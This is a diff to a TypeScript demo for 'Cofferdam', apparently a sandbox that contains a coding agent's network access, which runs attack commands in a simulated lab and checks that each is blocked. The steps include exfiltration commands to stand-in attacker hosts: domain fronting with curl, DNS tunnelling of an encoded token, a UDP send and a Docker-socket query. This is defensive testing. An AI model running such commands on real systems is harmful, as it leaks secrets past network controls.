@@ -21,6 +21,8 @@ interface Step {
   readonly expect: 'works' | 'contained';
   /** Reason that the gateway must have given for a denial; absent: the command never got as far as the network. */
   readonly reason?: string;
+  /** How the same command shows that it does harm without containment: something of it arrives, or it just succeeds. */
+  readonly outside?: 'arrives' | 'succeeds';
 }
 
 const steps: readonly Step[] = [
@@ -53,14 +55,16 @@ const steps: readonly Step[] = [
   {
     title: 'to the attacker’s site on the same content network as pypi.org, hidden behind its address',
     why: 'the address is shared, so an address filter would let it pass; here each name has an address of its own, and the ClientHello must ask for that name',
-    command: 'curl -sS -m 10 -k --connect-to cdn.attacker.example:443:pypi.org:443 https://cdn.attacker.example/collect',
+    command:
+      'curl -sS -m 10 -k --connect-to cdn.attacker.example:443:pypi.org:443 https://cdn.attacker.example/collect',
     expect: 'contained',
     reason: 'name-mismatch',
   },
   {
     title: 'byte by byte through DNS',
     why: 'a lookup is a message too: names that no rule covers are answered here',
-    command: 'dig +time=3 +tries=1 @8.8.8.8 TXT c2VjcmV0LXRva2Vu.tunnel.attacker.example; dig +time=3 +tries=1 A c2VjcmV0.attacker.example | grep -q NOERROR',
+    command:
+      'dig +time=3 +tries=1 @8.8.8.8 TXT c2VjcmV0LXRva2Vu.tunnel.attacker.example; dig +time=3 +tries=1 A c2VjcmV0.attacker.example | grep -q NOERROR',
     expect: 'contained',
     reason: 'dns-not-permitted',
   },
@@ -81,7 +85,8 @@ const steps: readonly Step[] = [
   {
     title: 'over QUIC, UDP and ping',
     why: 'UDP port 443 is refused so that clients fall back to TCP, and no other protocol is permitted',
-    command: 'python3 - <<"END"\nimport socket,sys\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(3); s.connect(("45.83.64.10",443)); s.send(b"secret")\ntry:\n  s.recv(100)\nexcept OSError as e:\n  print(e); sys.exit(1)\nEND',
+    command:
+      'python3 - <<"END"\nimport socket,sys\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(3); s.connect(("45.83.64.10",443)); s.send(b"secret")\ntry:\n  s.recv(100)\nexcept OSError as e:\n  print(e); sys.exit(1)\nEND',
     expect: 'contained',
     reason: 'quic',
   },
@@ -90,6 +95,7 @@ const steps: readonly Step[] = [
     why: 'sockets of container engines, D-Bus, agents are not there for the command, and it has no privileges to make a way',
     command: 'curl -sS -m 5 --unix-socket /run/docker.sock http://localhost/containers/json',
     expect: 'contained',
+    outside: 'succeeds',
   },
 ];
 
@@ -106,7 +112,9 @@ const run = async (lab: Lab, directory: string, step: Step, index: number): Prom
   const words = [join(root, 'cofferdam'), 'run', '--policy', policy, '--log', log, '--', 'sh', '-c', step.command];
   const env = { ...lab.ca.environment, SUDO_UID: '61234', SUDO_GID: '61234', NO_COLOR: '1' };
   const { code, stdout, stderr } = await lab.exec('host', words, { cwd: '/tmp', timeout: 60_000, env });
-  const records = readFileSync(log, 'utf8').split('\n').filter((line) => line !== '');
+  const records = readFileSync(log, 'utf8')
+    .split('\n')
+    .filter((line) => line !== '');
   const reasons = records.flatMap((line) => {
     const { verdict, reason } = JSON.parse(line) as { verdict: string; reason: string };
     return verdict === 'deny' ? [reason] : [];
@@ -131,6 +139,31 @@ const leaks = async (lab: Lab, since: number): Promise<readonly string[]> => {
   });
 };
 
+/** The same attack without containment: it must do harm, or its failure under containment would mean nothing. */
+const harmsOutside = async (lab: Lab, step: Step): Promise<boolean> => {
+  const since = await lab.mark();
+  const { code } = await lab.exec('host', ['sh', '-c', step.command], {
+    cwd: '/tmp',
+    timeout: 30_000,
+    env: lab.ca.environment,
+  });
+  const traces = (await leaks(lab, since)).length;
+  const harms = step.outside === 'succeeds' ? code === 0 : traces > 0;
+  if (harms)
+    console.log(`   without Cofferdam: it gets through${traces > 0 ? ` (${traces} traces at the other end)` : ''}`);
+  return harms;
+};
+
+/** A container engine's socket, as machines of developers have it: who can write to it owns the machine. */
+const engineSocket = [
+  'python3',
+  '-c',
+  `import os, socket
+s = socket.socket(socket.AF_UNIX); s.bind('/run/docker.sock'); os.chmod('/run/docker.sock', 0o666); s.listen()
+while True:
+  c, _ = s.accept(); c.recv(4096); c.send(b'HTTP/1.0 200 OK\\r\\n\\r\\n[]'); c.close()`,
+];
+
 const main = async (): Promise<number> => {
   const missing = labUnavailable();
   if (missing !== undefined) {
@@ -140,10 +173,15 @@ const main = async (): Promise<number> => {
   const directory = mkdtempSync(join(tmpdir(), 'cofferdam-demo-'));
   const started = Date.now();
   console.log(paint(1, 'Cofferdam: an agent at work, and under attack'));
-  console.log('A small internet is started on this machine, in namespaces of its own: resolvers, web sites, a content network,');
-  console.log('a cloud metadata service, a company network, and an attacker. The agent may reach what this policy names:');
+  console.log(
+    'A small internet is started on this machine, in namespaces of its own: resolvers, web sites, a content network,',
+  );
+  console.log(
+    'a cloud metadata service, a company network, and an attacker. The agent may reach what this policy names:',
+  );
   console.log(`\n  examples/coding-agent.yaml\n`);
   const lab = await startLab({ daemons: ['resolver', 'resolver2'] });
+  const engine = lab.spawn('host', engineSocket);
   let failures = 0;
   try {
     for (const [index, step] of steps.entries()) {
@@ -151,6 +189,10 @@ const main = async (): Promise<number> => {
       console.log(`${paint(1, `${index + 1}. ${heading}: ${step.title}`)}`);
       console.log(`   ${paint(2, step.why)}`);
       console.log(indent(step.command.split('\n')[0]!, '   $ '));
+      if (step.expect === 'contained' && !(await harmsOutside(lab, step))) {
+        failures += 1;
+        console.log(`   ${paint(31, '✘ this attack does nothing even without containment, so it proves nothing')}`);
+      }
       const since = await lab.mark();
       const outcome = await run(lab, directory, step, index);
       const arrived = await leaks(lab, since);
@@ -159,20 +201,27 @@ const main = async (): Promise<number> => {
       const right =
         step.expect === 'works'
           ? outcome.code === 0
-          : outcome.code !== 0 && arrived.length === 0 && (step.reason === undefined || outcome.reasons.includes(step.reason));
+          : outcome.code !== 0 &&
+            arrived.length === 0 &&
+            (step.reason === undefined || outcome.reasons.includes(step.reason));
       if (right) {
-        const word = step.expect === 'works' ? 'works' : 'contained, and nothing arrived';
+        const word = step.expect === 'works' ? 'works' : 'with Cofferdam: denied, and nothing arrived';
         console.log(`   ${paint(32, `✔ ${word}`)}\n`);
       } else {
         failures += 1;
-        console.log(`   ${paint(31, `✘ expected: ${step.expect}${step.reason === undefined ? '' : ` (${step.reason})`}`)}`);
-        console.log(`     exit code ${outcome.code}, denials: ${outcome.reasons.join(', ') || 'none'}, arrived: ${arrived.length}`);
+        console.log(
+          `   ${paint(31, `✘ expected: ${step.expect}${step.reason === undefined ? '' : ` (${step.reason})`}`)}`,
+        );
+        console.log(
+          `     exit code ${outcome.code}, denials: ${outcome.reasons.join(', ') || 'none'}, arrived: ${arrived.length}`,
+        );
         for (const line of arrived.slice(0, 5)) console.log(indent(line, '     arrived: '));
         console.log(indent(outcome.stderr, '     '));
         console.log('');
       }
     }
   } finally {
+    await engine.kill('SIGTERM');
     await lab.stop();
     rmSync(directory, { recursive: true, force: true });
   }
@@ -181,7 +230,12 @@ const main = async (): Promise<number> => {
     console.log(paint(31, `✘ ${failures} of ${steps.length} steps went wrong (${seconds} s)`));
     return 1;
   }
-  console.log(paint(32, `✔ the agent did its work; ${steps.filter(({ expect }) => expect === 'contained').length} ways out were tried and closed (${seconds} s)`));
+  console.log(
+    paint(
+      32,
+      `✔ the agent did its work; ${steps.filter(({ expect }) => expect === 'contained').length} ways out were tried and closed (${seconds} s)`,
+    ),
+  );
   console.log('  Try it yourself: sudo ./cofferdam run --policy examples/coding-agent.yaml -- bash');
   return 0;
 };
